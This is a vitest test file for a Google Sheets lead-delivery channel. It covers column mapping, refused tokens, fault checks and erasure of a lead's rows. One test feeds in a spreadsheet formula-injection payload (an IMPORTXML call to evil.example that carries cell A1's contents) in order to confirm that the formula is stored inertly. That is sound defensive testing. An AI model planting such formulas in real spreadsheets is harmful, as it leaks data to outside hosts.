import { expect, it } from 'vitest';
import type { DeliveredLead } from '../../server/delivery/channels/Channel.ts';
import type { ReceivedCall } from '../support/receivers.ts';
import { storedLead } from '../support/sampleLead.ts';
import { startSheets } from '../support/vendors/googleSheets.ts';
import { delivered, setUpChannel } from '../support/vendors/setUpChannel.ts';

type Env = { env: Record<string, string> };

const deliver = (vendor: Env, lead?: DeliveredLead) => setUpChannel('sheets', vendor).deliver(lead);

const findFaults = (vendor: Env) => setUpChannel('sheets', vendor).findFaults();

/** The cells of a row by their titles. */
const cellsOf = ({ grid: [titles = [], ...rows] }: { grid: unknown[][] }, row: number) =>
  Object.fromEntries(titles.map((title, column) => [title, rows[row]?.[column]]));

const second = storedLead({ id: 8, protocol: 'D0D0-0001', name: 'Bia' });

const isOf = (path: string) => (call: ReceivedCall) => call.url.includes(path);

it('the sheet gets its titles once, then a row for each lead', async () => {
  const vendor = await startSheets();
  const first = storedLead({ abandoned_carts: 1200, average_value: 1499.9 });
  for (const lead of [first, second]) expect(await deliver(vendor, lead)).toEqual(delivered);
  const protocols = vendor.grid.map((row) => row[0]);
  expect(protocols).toEqual(['Protocolo', 'C7F3-A91D', 'D0D0-0001']);
  expect(cellsOf(vendor, 0)).toMatchObject({
    Nº: 7,
    'Recebido em': '21/11/2026 09:05:07',
    Nome: 'Ana Conceição',
    Telefone: '(11) 98765-4321',
    'E-mail': 'ana@calcadosaurora.com.br',
    Empresa: '',
    Plataforma: 'Via formulário rápido',
    'Carrinhos abandonados por mês': 1200,
    'Valor médio': 1499.9,
    Formulário: 'Formulário rápido',
    Página: '/',
    'Versão do aviso de privacidade': '1',
  });
});

it('the sheet may have moved, renamed and additional columns: each value goes under its title', async () => {
  const vendor = await startSheets();
  vendor.grid.push(['Vendedor', 'Telefone', 'Quem é', '', ' Protocolo ', 'Nome'], ['Rui']);
  expect(await deliver(vendor)).toEqual(delivered);
  expect(await deliver(vendor, second)).toEqual(delivered);
  expect(vendor.grid.slice(2)).toEqual([
    ['', '(11) 98765-4321', '', '', 'C7F3-A91D', 'Ana Conceição'],
    ['', '(11) 98765-4321', '', '', 'D0D0-0001', 'Bia'],
  ]);
});

it.each([
  ['has no protocols', [['Nome', 'Código'], ['Ana']], 'não tem a coluna Protocolo'],
  ['begins with an untitled column', [['', 'Protocolo', 'Nome']], 'coluna A'],
])('a sheet that %s gets no rows until somebody fixes it', async (_, cells, reason) => {
  const vendor = await startSheets();
  vendor.grid.push(...cells);
  const outcome = await deliver(vendor);
  expect(outcome).toMatchObject({ kind: 'failed', failure: expect.stringContaining(reason) });
  expect(vendor.grid).toEqual(cells);
  expect(await findFaults(vendor)).toEqual([
    expect.stringMatching(`^SHEETS_SPREADSHEET_ID: leads cannot be written .*${reason}`),
  ]);
});

it('the sheet does not run a formula that a visitor typed', async () => {
  const vendor = await startSheets();
  const formula = '=IMPORTXML("https://evil.example/?"&A1;"//a")';
  await deliver(vendor, storedLead({ name: formula, notes: '+1+1' }));
  expect(cellsOf(vendor, 0)).toMatchObject({ Nome: formula, Mensagem: '+1+1' });
});

it.each([
  [403, 'failed'],
  [404, 'refused'],
])(
  'a spreadsheet that Google refuses with %i: the delivery is %s, and doctor says so',
  async (status, kind) => {
    const vendor = await startSheets();
    vendor.interrupt = (response, call) =>
      !isOf('/token')(call) && response.writeHead(status).end();
    const failure = `HTTP ${status}`;
    expect(await deliver(vendor)).toMatchObject({ kind, failure });
    expect(await findFaults(vendor)).toEqual([
      expect.stringContaining(`(${failure}). Check the key`),
    ]);
  },
);

it.each([400, 401, 403])('a token refused with %i: the lead waits', async (status) => {
  const vendor = await startSheets();
  vendor.interrupt = (response, call) => isOf('/token')(call) && response.writeHead(status).end();
  expect(await deliver(vendor)).toMatchObject({ kind: 'failed', failure: `HTTP ${status}` });
});

it('doctor writes nothing, and finds an invalid key', async () => {
  const vendor = await startSheets();
  expect(await findFaults(vendor)).toEqual([]);
  expect(vendor.grid).toEqual([]);
  const env = { ...vendor.env, SHEETS_CLIENT_EMAIL: 'other@loja.example' };
  expect(await findFaults({ env })).toEqual([expect.stringContaining('(HTTP 400). Check the key')]);
});

const erase = (vendor: Env) => setUpChannel('sheets', vendor).erase();

it('an erasure deletes a lead’s rows wherever they are, and no other lead’s', async () => {
  const vendor = await startSheets();
  const twin = storedLead({ id: 8, name: 'Bia' });
  for (const lead of [storedLead(), twin, second]) await deliver(vendor, lead);
  const [own] = vendor.grid.splice(1, 1);
  vendor.grid.push(own ?? [], ['à mão'], own ?? []);
  expect(await erase(vendor)).toEqual({ kind: 'erased' });
  expect(vendor.grid.slice(1).map((row) => row[3])).toEqual(['Bia', 'Bia', undefined]);
  expect(await erase(vendor)).toEqual({ kind: 'absent' });
  expect(vendor.grid).toHaveLength(4);
});
